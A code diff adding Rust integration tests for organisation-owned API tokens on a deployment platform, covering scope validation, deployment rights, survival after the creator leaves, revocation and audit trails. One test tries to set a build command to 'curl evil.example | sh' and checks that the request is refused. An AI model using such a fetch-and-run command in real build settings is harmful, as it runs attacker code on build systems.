@@ -194,3 +194,292 @@ async fn a_token_must_be_scoped_and_expire_within_a_year() {
     }
     mesh.stop().await;
 }
+
+/// An organisation with an owner and an admin, and one project of its own.
+struct Team {
+    owner: String,
+    admin: String,
+    admin_id: String,
+    organization_id: String,
+    project_id: String,
+}
+
+async fn team(mesh: &TestMesh) -> Team {
+    use capsule::proto::project::v1 as project_pb;
+    let (owner, _) = mesh.user("team-owner@example.com").await;
+    let (admin, admin_id) = mesh.user("team-admin@example.com").await;
+    let mut projects = mesh.projects().await;
+    let organization_id = projects
+        .create_organization(authed(
+            project_pb::CreateOrganizationRequest {
+                organization: Some(project_pb::Organization {
+                    name: "Acme".to_owned(),
+                    ..Default::default()
+                }),
+            },
+            &owner,
+        ))
+        .await
+        .unwrap()
+        .into_inner()
+        .id;
+    projects
+        .invite_member(authed(
+            project_pb::InviteMemberRequest {
+                organization_id: organization_id.clone(),
+                email: "team-admin@example.com".to_owned(),
+                role: project_pb::OrganizationRole::Admin.into(),
+            },
+            &owner,
+        ))
+        .await
+        .unwrap();
+    let invitation = common::mailed_invitation_token(mesh, "team-admin@example.com");
+    projects
+        .accept_invitation(authed(
+            project_pb::AcceptInvitationRequest { token: invitation },
+            &admin,
+        ))
+        .await
+        .unwrap();
+    let project_id = projects
+        .create_project(authed(
+            project_pb::CreateProjectRequest {
+                project: Some(project_pb::Project {
+                    name: "Shop".to_owned(),
+                    organization_id: organization_id.clone(),
+                    ..Default::default()
+                }),
+            },
+            &owner,
+        ))
+        .await
+        .unwrap()
+        .into_inner()
+        .id;
+    Team {
+        owner,
+        admin,
+        admin_id,
+        organization_id,
+        project_id,
+    }
+}
+
+#[tokio::test]
+async fn an_organization_token_acts_as_the_organization_outlives_its_creator_and_any_admin_revokes_it() {
+    use capsule::proto::{audit::v1 as audit_pb, project::v1 as project_pb};
+    let mesh = common::start().await;
+    let team = team(&mesh).await;
+    let org = team.organization_id.clone();
+    let personal = common::deploy::project(&mesh, &team.admin, "true", &[]).await;
+    let mut projects = mesh.projects().await;
+    let tokens_path = format!("/v1/organizations/{org}/apiTokens");
+
+    // The admin creates one through REST: shown once, owned by the organisation.
+    let (status, body) = rest(
+        &mesh,
+        Method::POST,
+        &tokens_path,
+        &team.admin,
+        serde_json::json!({"name": "CI", "scopes": ["project.deploy", "project.read"], "expireDays": 30}),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let created: serde_json::Value = serde_json::from_str(&body).unwrap();
+    let token = created["token"].as_str().unwrap().to_owned();
+    let token_id = created["apiToken"]["id"].as_str().unwrap().to_owned();
+    assert!(token.starts_with("capsule_pat_"), "{token}");
+    assert_eq!(created["apiToken"]["organizationId"], org.as_str());
+    assert_eq!(created["apiToken"]["creatorId"], team.admin_id.as_str());
+    // Not in the admin's personal tokens.
+    let personal_tokens = mesh
+        .auth()
+        .await
+        .list_api_tokens(authed(pb::ListApiTokensRequest {}, &team.admin))
+        .await
+        .unwrap()
+        .into_inner();
+    assert!(personal_tokens.api_tokens.is_empty(), "{personal_tokens:?}");
+
+    // What no organisation token may be, each refusal naming its field.
+    let organization_token = |scopes: &[&str], project_id: &str, bearer: &str| {
+        authed(
+            project_pb::CreateOrganizationApiTokenRequest {
+                organization_id: org.clone(),
+                api_token: Some(create("bad", scopes, project_id, 1)),
+            },
+            bearer,
+        )
+    };
+    for (request, field) in [
+        (
+            organization_token(&["project.read", "organization.members.write"], "", &team.admin),
+            "api_token.scopes[1]",
+        ),
+        (
+            organization_token(&["project.deploy"], &personal, &team.admin),
+            "api_token.project_id",
+        ),
+        (
+            organization_token(&["project.deploy"], "", &team.admin).map(|mut body| {
+                body.api_token.as_mut().unwrap().expire_days = 0;
+                body
+            }),
+            "api_token.expire_days",
+        ),
+    ] {
+        let refused = projects.create_organization_api_token(request).await.unwrap_err();
+        assert_eq!(refused.code(), Code::InvalidArgument, "{field}: {refused:?}");
+        assert!(
+            common::violated_fields(&refused).iter().any(|f| f == field),
+            "{field}: {refused:?}"
+        );
+    }
+    // A token does not make tokens; a stranger sees no organisation.
+    let personal_token = mesh
+        .auth()
+        .await
+        .create_api_token(authed(
+            create("admin's", &["organization.members.write"], "", 1),
+            &team.admin,
+        ))
+        .await
+        .unwrap()
+        .into_inner()
+        .token;
+    let refused = projects
+        .create_organization_api_token(organization_token(&["project.deploy"], "", &personal_token))
+        .await
+        .unwrap_err();
+    assert_eq!(refused.code(), Code::PermissionDenied, "{refused:?}");
+    let (stranger, _) = mesh.user("stranger@example.com").await;
+    let refused = projects
+        .create_organization_api_token(organization_token(&["project.deploy"], "", &stranger))
+        .await
+        .unwrap_err();
+    assert_eq!(refused.code(), Code::NotFound, "{refused:?}");
+
+    // It deploys the organisation's project through REST, and cancels over gRPC.
+    let deploy_path = format!("/v1/projects/{}/deployments", team.project_id);
+    let (status, body) = rest(&mesh, Method::POST, &deploy_path, &token, serde_json::json!({})).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let deployment: serde_json::Value = serde_json::from_str(&body).unwrap();
+    mesh.deploys()
+        .await
+        .cancel_deployment(authed(
+            capsule::proto::deploy::v1::CancelDeploymentRequest {
+                deployment_id: deployment["id"].as_str().unwrap().to_owned(),
+            },
+            &token,
+        ))
+        .await
+        .unwrap();
+    // It lists the organisation's projects as its own.
+    let listed = projects
+        .list_projects(authed(project_pb::ListProjectsRequest::default(), &token))
+        .await
+        .unwrap()
+        .into_inner();
+    let ids: Vec<&str> = listed.projects.iter().map(|project| project.id.as_str()).collect();
+    assert_eq!(ids, [team.project_id.as_str()]);
+    // Its creator's personal project does not exist for it; settings are beyond its scopes.
+    let (status, body) = rest(
+        &mesh,
+        Method::POST,
+        &format!("/v1/projects/{personal}/deployments"),
+        &token,
+        serde_json::json!({}),
+    )
+    .await;
+    assert_eq!(status, StatusCode::NOT_FOUND, "{body}");
+    let (status, body) = rest(
+        &mesh,
+        Method::PATCH,
+        &format!("/v1/projects/{}/settings?updateMask=buildCommand", team.project_id),
+        &token,
+        serde_json::json!({"buildCommand": "curl evil.example | sh"}),
+    )
+    .await;
+    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
+    assert!(body.contains("project.settings.write"), "{body}");
+
+    // The admin leaves; the organisation's token stays.
+    projects
+        .remove_member(authed(
+            project_pb::RemoveMemberRequest {
+                organization_id: org.clone(),
+                user_id: team.admin_id.clone(),
+            },
+            &team.owner,
+        ))
+        .await
+        .unwrap();
+    let (status, body) = rest(&mesh, Method::POST, &deploy_path, &token, serde_json::json!({})).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    // The owner sees it used, and revokes it: refused at once.
+    let (status, body) = rest(&mesh, Method::GET, &tokens_path, &team.owner, serde_json::json!(null)).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let listed: serde_json::Value = serde_json::from_str(&body).unwrap();
+    assert_eq!(listed["apiTokens"][0]["id"], token_id.as_str(), "{body}");
+    assert!(listed["apiTokens"][0]["lastUseTime"].is_string(), "{body}");
+    assert!(!body.contains(&token));
+    let (status, body) = rest(
+        &mesh,
+        Method::DELETE,
+        &format!("{tokens_path}/{token_id}"),
+        &team.owner,
+        serde_json::json!(null),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (status, body) = rest(&mesh, Method::POST, &deploy_path, &token, serde_json::json!({})).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED, "{body}");
+
+    // The trail: the admin made it, the token (no person) deployed, the owner revoked it.
+    let trail = projects
+        .list_audit_events(authed(
+            audit_pb::ListAuditEventsRequest {
+                organization_id: org.clone(),
+                ..Default::default()
+            },
+            &team.owner,
+        ))
+        .await
+        .unwrap()
+        .into_inner();
+    let made = trail
+        .events
+        .iter()
+        .find(|event| event.action == "api_token.create")
+        .unwrap();
+    assert_eq!(made.actor_id, team.admin_id);
+    assert_eq!(made.target, format!("organizations/{org}/apiTokens/{token_id}"));
+    assert!(trail.events.iter().any(|event| event.action == "api_token.revoke"));
+    let deploys = mesh
+        .deploys()
+        .await
+        .list_audit_events(authed(
+            audit_pb::ListAuditEventsRequest {
+                organization_id: org.clone(),
+                ..Default::default()
+            },
+            &team.owner,
+        ))
+        .await
+        .unwrap()
+        .into_inner();
+    let by_token: Vec<_> = deploys
+        .events
+        .iter()
+        .filter(|event| event.action == "deployment.create")
+        .collect();
+    assert_eq!(by_token.len(), 2, "{deploys:?}");
+    assert!(
+        by_token
+            .iter()
+            .all(|event| event.actor_id.is_empty() && event.actor_token_id == token_id),
+        "{by_token:?}"
+    );
+    mesh.stop().await;
+}
